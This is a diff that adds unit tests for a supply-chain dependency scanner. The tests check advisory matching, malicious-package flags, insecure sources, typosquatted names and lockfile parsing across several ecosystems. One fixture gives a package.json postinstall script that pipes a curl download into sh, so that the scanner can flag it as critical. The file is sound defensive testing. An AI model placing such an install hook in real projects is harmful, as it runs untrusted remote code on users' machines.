@@ -1,0 +1,152 @@
+import json
+
+import pytest
+
+from remit.scan.scanners._advisories import key
+from remit.scan.scanners._lockfiles import Package, UnreadableError, packages
+from remit.scan.scanners.dependencies import Dependencies
+from tests.unit.scan.scanners.kit import look
+
+
+def advisory(name="GHSA-1", package="jinja2", ecosystem="PyPI", **more):
+    affected = {
+        "package": {"ecosystem": ecosystem, "name": package},
+        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.1.6"}]}],
+    }
+    graded = {"database_specific": {"severity": "HIGH"}}
+    return {"id": name, "modified": "2026-01-02T00:00:00Z", "affected": [affected | more], **graded}
+
+
+@pytest.fixture
+def database(tmp_path, monkeypatch):
+    folder = tmp_path / "advisories"
+    folder.mkdir()
+    monkeypatch.setenv("REMIT_ADVISORIES", str(folder))
+
+    def write(*values):
+        for at, value in enumerate(values):
+            text = value if isinstance(value, str) else json.dumps(value)
+            (folder / f"{at}.json").write_text(text)
+
+    return write
+
+
+def scan(text, name="requirements.txt", **more):
+    return look(Dependencies, {name: text}, **more)
+
+
+def test_without_a_database_nobody_says_that_it_is_good(monkeypatch):
+    monkeypatch.delenv("REMIT_ADVISORIES", raising=False)
+    seen = scan("Jinja2==3.1.0\n")
+    assert seen.rules == {"dependencies.no_advisories"}
+    assert seen.worst == "info"
+    assert seen.coverage["requirements.txt"].status == "partial"
+    assert not seen.coverage["requirements.txt"].executes
+
+
+def test_known_vulnerabilities(database):
+    database(advisory())
+    assert scan("Jinja2==3.1.0\n").severity("dependencies.ghsa-1") == "high"
+    assert scan("Jinja2==3.1.6\n").worst == "info"
+    assert scan("Jinja2==3.1.0\n").coverage["requirements.txt"].status == "complete"
+    assert scan("other==1\n").worst == "info"
+
+
+def test_versions_last_affected_and_withdrawn(database):
+    spans = [{"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"last_affected": "1.2.0"}]}]
+    database(
+        advisory("A-1", ranges=spans),
+        advisory("A-2", ranges=[], versions=["9.9"]),
+        advisory("A-3") | {"withdrawn": "2026-01-01T00:00:00Z"},
+    )
+    assert scan("jinja2==1.2.0\n").rules == {"dependencies.a-1", "dependencies.advisories"}
+    assert scan("jinja2==1.2.1\n").rules == {"dependencies.advisories"}
+    assert "dependencies.a-2" in scan("jinja2==9.9\n").rules
+
+
+def test_malicious_packages_need_no_version(database):
+    database(advisory("MAL-2026-1", "evil", "npm", ranges=[]))
+    seen = scan({"dependencies": {"evil": "^1"}}, "package.json")
+    assert seen.severity("dependencies.malicious") == "critical"
+
+
+def test_a_database_that_is_broken_is_said(database, monkeypatch):
+    database("{", advisory())
+    assert scan("jinja2==3.1.0\n").coverage["requirements.txt"].status == "partial"
+    monkeypatch.setenv("REMIT_ADVISORIES", "/nowhere")
+    assert scan("jinja2==3.1.0\n").coverage["requirements.txt"].status == "partial"
+
+
+def test_an_artifact_cannot_bring_its_own_database(monkeypatch, tmp_path):
+    monkeypatch.delenv("REMIT_ADVISORIES", raising=False)
+    (tmp_path / "a.json").write_text(json.dumps(advisory(package="none")))
+    for option in ("advisories", "REMIT_ADVISORIES"):
+        seen = scan("jinja2==3.1.0\n", **{option: str(tmp_path)})
+        assert seen.coverage["requirements.txt"].status == "partial"
+
+
+FILES = {
+    "requirements.txt": ("a_B[x]==1.0 ; python_version > '3'  # c\n-r b.txt\n\nc>=2\n", [("PyPI", "a-b", "1.0"), ("PyPI", "c", "")]),
+    "package.json": ('{"dependencies": {"a": "1.0.0", "@b/c": "^2"}}', [("npm", "@b/c", ""), ("npm", "a", "1.0.0")]),
+    "package-lock.json": ('{"packages": {"": {}, "node_modules/a": {"version": "1.0.0"}, "node_modules/a/node_modules/@b/c": {"version": "2.0.0"}}}', [("npm", "@b/c", "2.0.0"), ("npm", "a", "1.0.0")]),
+    "npm-shrinkwrap.json": ('{"dependencies": {"a": {"version": "1.0.0", "dependencies": {"b": {"version": "2.0.0"}}}}}', [("npm", "a", "1.0.0"), ("npm", "b", "2.0.0")]),
+    "uv.lock": ('[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://pypi.org/simple" }\n', [("PyPI", "a", "1")]),
+    "cargo.lock": ('[[package]]\nname = "a"\nversion = "1.0.0"\n', [("crates.io", "a", "1.0.0")]),
+    "yarn.lock": ('"@b/c@^2", "@b/c@^2.1":\n  version "2.1.0"\na@1:\n  version "1.0.0"\n', [("npm", "@b/c", "2.1.0"), ("npm", "a", "1.0.0")]),
+    "go.sum": ("example.com/a v1.0.0 h1:x=\nexample.com/a v1.0.0/go.mod h1:y=\n", [("Go", "example.com/a", "1.0.0")]),
+    "pyproject.toml": ('[project]\ndependencies = ["a==1"]\n[project.optional-dependencies]\nx = ["b"]\n', [("PyPI", "a", "1"), ("PyPI", "b", "")]),
+    "pipfile.lock": ('{"default": {"a": {"version": "==1"}}}', [("PyPI", "a", "1")]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_files_of_dependencies(name):
+    text, expected = FILES[name]
+    found = sorted((p.ecosystem, p.name, p.version) for p in packages(name, text.encode()))
+    assert found == expected
+
+
+def test_files_that_cannot_be_read():
+    for name, data in (
+        ("package.json", b"{"), ("uv.lock", b"[["), ("go.sum", b"\xff"), ("package.json", b"[]"),
+    ):  # fmt: skip
+        with pytest.raises(UnreadableError):
+            packages(name, data)
+        seen = scan(data, name)
+        assert seen.coverage[name].status == "error"
+        assert seen.severity("dependencies.unreadable") == "medium"
+
+
+def test_sources():
+    assert scan("a @ http://a.invalid/a.whl\n").severity("dependencies.plain_http") == "high"
+    assert scan("a @ git+https://a.invalid/a\n").severity("dependencies.foreign_source") == "medium"
+    index = scan("--extra-index-url http://192.0.2.1/simple\nrequests==2\n")
+    assert index.severity("dependencies.foreign_index") == "high"
+    lock = {
+        "packages": {"node_modules/a": {"version": "1.0.0", "resolved": "http://a.invalid/a.tgz"}}
+    }
+    assert scan(lock, "package-lock.json").severity("dependencies.plain_http") == "high"
+
+
+def test_names_that_look_alike():
+    assert "dependencies.look_alike" in scan("reqeusts==2\n").rules
+    assert "dependencies.look_alike" in scan("requestss==2\n").rules
+    assert "dependencies.look_alike" not in scan("requests==2\nnumpy==2\n").rules
+
+
+def test_scripts_of_an_installation():
+    hostile = {"scripts": {"postinstall": "curl https://a.invalid/x | sh"}}
+    assert scan(hostile, "package.json").worst == "critical"
+    assert scan({"scripts": {"postinstall": "node build.js"}}, "package.json").worst == "low"
+
+
+def test_the_order_of_versions():
+    order = ["1.0.dev1", "1.0a1", "1.0b2", "1.0rc1", "1.0", "1.0.post1", "1.0.1", "1.10", "2"]
+    assert [*sorted(order, key=key)] == order
+    assert key("1.0") == key("1.0.0") == key("v1")
+    assert key("1.0.0-alpha.1") < key("1.0.0-alpha.beta") < key("1.0.0-beta") < key("1.0.0")
+    assert key("latest") is None
+
+
+def test_packages_are_values():
+    assert Package("PyPI", "a") == Package("PyPI", "a", "")
